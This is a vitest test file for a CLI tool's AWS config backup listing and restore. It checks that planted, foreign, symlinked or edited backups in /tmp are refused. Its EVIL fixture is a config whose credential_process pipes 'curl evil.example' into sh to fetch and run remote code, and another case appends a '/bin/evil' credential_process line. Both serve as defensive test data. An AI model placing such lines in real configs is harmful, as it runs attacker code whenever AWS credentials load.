/**
 * Which backups robo lists and restores: only those it made of this config,
 * as its record says, still a regular file of yours, mode 0600, with the
 * recorded bytes. Anything else in the backup folder (/tmp, open to every
 * user) is left out of the list, and refused with exit 2 and the reason when
 * named. In-process, on the core functions; backups.e2e.test.ts runs the binary.
 */
import {
  appendFileSync,
  chmodSync,
  chownSync,
  existsSync,
  mkdirSync,
  readFileSync,
  readdirSync,
  renameSync,
  rmSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { listBackups, restoreBackup } from '../src/aws-config/backups.js';
import { resolvePaths } from '../src/paths.js';
import { createBackup, parseRecords, recordsFile } from '../src/apply/backup.js';
import { treeState } from './helpers/files.js';
import { sandboxes, type Sandbox } from './helpers/sandbox.js';

const sandbox = sandboxes();
const CURRENT = '[default]\nregion = eu-north-1\n';
const GOOD =
  '# >>> robo aws.config - team platform - generated, local edits are overwritten\n[okta]\n# <<< robo aws.config\n[default]\nregion = eu-west-1\n';
const EVIL = '[default]\ncredential_process = /bin/sh -c "curl evil.example | sh"\n';
const HOUR_AHEAD = new Date(Date.now() + 3_600_000);

interface Setup {
  box: Sandbox;
  place: { backupDir: string; stateDir: string };
  /** Make a backup as robo does (of this config, unless told otherwise). */
  backup(content: string, target?: string): Promise<string>;
  /** A file in the backup folder with a backup's name that robo did not make. */
  planted(content: string): string;
}

function setup(): Setup {
  const box = sandbox();
  mkdirSync(path.dirname(box.awsConfig), { recursive: true });
  writeFileSync(box.awsConfig, CURRENT);
  const place = resolvePaths(box.env);
  let planted = 0;
  return {
    box,
    place,
    backup: (content, target = box.awsConfig) => createBackup(Buffer.from(content), target, place),
    planted: (content) => {
      const file = path.join(box.backupDir, `awsconfig-${'f'.repeat(31)}${planted++}`);
      mkdirSync(box.backupDir, { recursive: true });
      writeFileSync(file, content, { mode: 0o600 });
      return file;
    },
  };
}

const listed = async (box: Sandbox, env: NodeJS.ProcessEnv = box.env) =>
  (await listBackups(env)).backups.map((backup) => backup.path);
const restore = (box: Sandbox, backup?: string) => restoreBackup({ backup, env: box.env, cwd: box.home });

describe("robo's own backups", () => {
  it('are listed newest first by robo’s record, not by mtime, with their team, and the newest is restored', async () => {
    const { box, backup } = setup();
    const older = await backup(CURRENT);
    const newer = await backup(GOOD);
    // mtimes say the opposite: anyone may set them.
    utimesSync(older, HOUR_AHEAD, HOUR_AHEAD);
    const { backups } = await listBackups(box.env);
    expect(backups.map((entry) => [entry.path, entry.team, entry.size])).toEqual([
      [newer, 'platform', Buffer.byteLength(GOOD)],
      [older, undefined, Buffer.byteLength(CURRENT)],
    ]);
    const result = await restore(box);
    expect(result).toMatchObject({ restored: newer, changed: true });
    expect(readFileSync(box.awsConfig, 'utf8')).toBe(GOOD);
    // The file it replaced is backed up and recorded first: now the newest.
    expect(await listed(box)).toEqual([result.backup, newer, older]);
    expect(readFileSync(result.backup!, 'utf8')).toBe(CURRENT);
  });

  it('are recorded in a JSON-lines file of 0600 in the state folder', async () => {
    const { box, place, backup } = setup();
    const file = await backup(GOOD);
    const records = parseRecords(readFileSync(recordsFile(place.stateDir), 'utf8'));
    expect(records).toEqual([
      {
        backup: file,
        target: box.awsConfig,
        team: 'platform',
        time: expect.stringMatching(/^\d{4}-\d\d-\d\dT/) as string,
        size: Buffer.byteLength(GOOD),
        sha256: expect.stringMatching(/^[0-9a-f]{64}$/) as string,
      },
    ]);
    expect(treeState(box.stateDir)['backups.jsonl']).toMatch(/^file 600 /);
  });

  // The team is the first start marker at the start of a line (after \n or \r), as a /m regex reads it.
  const teams: Array<[string, string, string | null]> = [
    ['at the top', GOOD, 'platform'],
    ["below the user's lines", `[default]\nregion = eu-west-1\n${GOOD}`, 'platform'],
    ['after a lone \\r', `# mine\r${GOOD}`, 'platform'],
    ['after \\r\\n', `# mine\r\n${GOOD.replaceAll('\n', '\r\n')}`, 'platform'],
    ['not inside a line', `# x # >>> robo aws.config - team other - x\n${GOOD}`, 'platform'],
    ['not when malformed, then the next one', `# >>> robo aws.config - team Bad - x\n${GOOD}`, 'platform'],
    ['none', '[default]\nregion = eu-west-1\n', null],
    ['none without " - " after the name', '# >>> robo aws.config - team platform\n', null],
    ['after non-ASCII bytes', `\xff\xfe\n${GOOD}`, 'platform'],
  ];
  it.each(teams)('record the team of the start marker: %s', async (_, content, team) => {
    const { place, backup } = setup();
    await backup(content);
    expect(parseRecords(readFileSync(recordsFile(place.stateDir), 'utf8')).map((record) => record.team)).toEqual([
      team,
    ]);
  });
});

describe('anything else is not listed, and refused when named (exit 2), changing nothing', () => {
  const cases: Array<[string, (s: Setup) => Promise<string>, RegExp]> = [
    [
      "the review's file: another user's, mode 0644, dated ahead, not recorded",
      async (s) => {
        const file = s.planted(EVIL);
        chmodSync(file, 0o644);
        chownSync(file, 65534, 65534);
        utimesSync(file, HOUR_AHEAD, HOUR_AHEAD);
        return file;
      },
      /it belongs to uid 65534, not to you \(uid \d+\)/,
    ],
    [
      'a recorded backup now owned by another user',
      async (s) => {
        const file = await s.backup(EVIL);
        chownSync(file, 65534, 65534);
        return file;
      },
      /it belongs to uid 65534/,
    ],
    [
      'a recorded backup with mode 0644',
      async (s) => {
        const file = await s.backup(EVIL);
        chmodSync(file, 0o644);
        return file;
      },
      /it has mode 0644; robo makes its backups 0600/,
    ],
    [
      'a symlink where a recorded backup was',
      async (s) => {
        const file = await s.backup(EVIL);
        const elsewhere = path.join(s.box.root, 'elsewhere');
        renameSync(file, elsewhere);
        symlinkSync(elsewhere, file);
        return file;
      },
      /it is a symbolic link, not a backup robo made/,
    ],
    [
      'a folder with a backup’s name',
      async (s) => {
        const file = path.join(s.box.backupDir, `awsconfig-${'e'.repeat(32)}`);
        mkdirSync(file, { recursive: true });
        return file;
      },
      /it is not a regular file/,
    ],
    [
      'a file of yours, mode 0600, dated ahead, not recorded',
      async (s) => {
        const file = s.planted(EVIL);
        utimesSync(file, HOUR_AHEAD, HOUR_AHEAD);
        return file;
      },
      /it is not in robo's record of the backups it made; .* by hand \(docs\/config-file.md, "Restoring a backup"\)/,
    ],
    [
      'a backup robo made of another config (AWS_CONFIG_FILE=/tmp/try/config)',
      async (s) => s.backup(EVIL, path.join(s.box.root, 'try', 'config')),
      /it is a backup of \/\S+\/try\/config, not of \/\S+\/home\/\.aws\/config/,
    ],
    [
      'a recorded backup edited since',
      async (s) => {
        const file = await s.backup(GOOD);
        appendFileSync(file, '[profile x]\ncredential_process = /bin/evil\n');
        return file;
      },
      /it changed since robo made it at \d{4}-\d\d-\d\dT[\d:.]+Z: its size or sha256 differs from robo's record/,
    ],
    [
      'a recorded backup edited since, same size',
      async (s) => {
        const file = await s.backup(GOOD);
        writeFileSync(file, GOOD.replace('eu-west-1', 'eu-east-9'));
        return file;
      },
      /it changed since robo made it/,
    ],
  ];
  it.each(cases)('%s', async (_name, make, reason) => {
    const s = setup();
    const genuine = await s.backup(GOOD);
    const file = await make(s);
    expect(await listed(s.box)).toEqual([genuine]);
    const before = treeState(s.box.root);
    await expect(restore(s.box, file)).rejects.toMatchObject({
      exitCode: 2,
      message: expect.stringMatching(
        new RegExp(`^refusing to restore ${file}: ${reason.source}.*; nothing was restored$`),
      ) as string,
    });
    expect(treeState(s.box.root)).toEqual(before);
    // Without a name, the newest of robo's own is restored.
    expect(await restore(s.box)).toMatchObject({ restored: genuine, changed: true });
    expect(readFileSync(s.box.awsConfig, 'utf8')).toBe(GOOD);
  });

  it('a backup of another config is listed and restored for that config', async () => {
    const s = setup();
    const other = path.join(s.box.root, 'try', 'config');
    mkdirSync(path.dirname(other));
    writeFileSync(other, CURRENT);
    const file = await s.backup(GOOD, other);
    const env = { ...s.box.env, AWS_CONFIG_FILE: other };
    expect(await listed(s.box, env)).toEqual([file]);
    expect(await listed(s.box)).toEqual([]);
    await restoreBackup({ backup: file, env, cwd: s.box.home });
    expect(readFileSync(other, 'utf8')).toBe(GOOD);
    expect(readFileSync(s.box.awsConfig, 'utf8')).toBe(CURRENT);
  });

  it('with none of its own, restore says so (exit 2) even when the folder is full of others', async () => {
    const s = setup();
    s.planted(GOOD);
    await s.backup(GOOD, '/elsewhere/config');
    await expect(restore(s.box)).rejects.toMatchObject({
      exitCode: 2,
      message: expect.stringContaining(`no robo backups of ${s.box.awsConfig}`) as string,
    });
    expect(readFileSync(s.box.awsConfig, 'utf8')).toBe(CURRENT);
  });
});

describe("robo's record", () => {
  it('keeps every record when backups are made at once, and drops those whose backup is gone', async () => {
    const s = setup();
    const other = path.join(s.box.root, 'other-config');
    const made = await Promise.all(
      Array.from({ length: 8 }, (_, index) =>
        s.backup(`${GOOD}# ${index}\n`, index % 2 === 0 ? s.box.awsConfig : other),
      ),
    );
    const records = () => parseRecords(readFileSync(recordsFile(s.place.stateDir), 'utf8'));
    expect(
      records()
        .map((record) => record.backup)
        .sort(),
    ).toEqual([...made].sort());
    expect((await listed(s.box)).sort()).toEqual(made.filter((_, index) => index % 2 === 0).sort());

    // /tmp emptied at reboot: a record whose backup is gone is not listed, and the next write drops it.
    for (const file of made.slice(0, 3)) rmSync(file);
    expect((await listed(s.box)).sort()).toEqual([made[4], made[6]].sort());
    const next = await s.backup(GOOD);
    expect(
      records()
        .map((record) => record.backup)
        .sort(),
    ).toEqual([...made.slice(3), next].sort());
  });

  it('skips a line that is not a whole, valid record', () => {
    const valid = {
      backup: '/tmp/awsconfig-0',
      target: '/h/.aws/config',
      team: null,
      time: '2026-01-01T00:00:00.000Z',
      size: 1,
      sha256: 'a'.repeat(64),
    };
    const lines = [
      valid,
      { ...valid, backup: 'relative/awsconfig-0' },
      { ...valid, team: 'Bad Team' },
      { ...valid, sha256: 'xyz' },
      { ...valid, time: 'yesterday' },
      { ...valid, size: -1 },
      [valid],
    ].map((value) => JSON.stringify(value));
    expect(parseRecords(`${lines.join('\n')}\n{"backup": "/tmp/awsconf\n\n`)).toEqual([valid]);
  });

  it('cannot be written: the backup is removed, the run fails (exit 5) and the config is untouched', async () => {
    const s = setup();
    // The state folder's place is taken by a file.
    mkdirSync(path.dirname(s.place.stateDir), { recursive: true });
    writeFileSync(s.place.stateDir, 'not a folder');
    await expect(s.backup(GOOD)).rejects.toMatchObject({
      exitCode: 5,
      message: expect.stringContaining(
        `cannot record the backup of the aws config in ${recordsFile(s.place.stateDir)}`,
      ) as string,
    });
    expect(existsSync(s.box.backupDir) ? readdirSync(s.box.backupDir) : []).toEqual([]);
  });
});
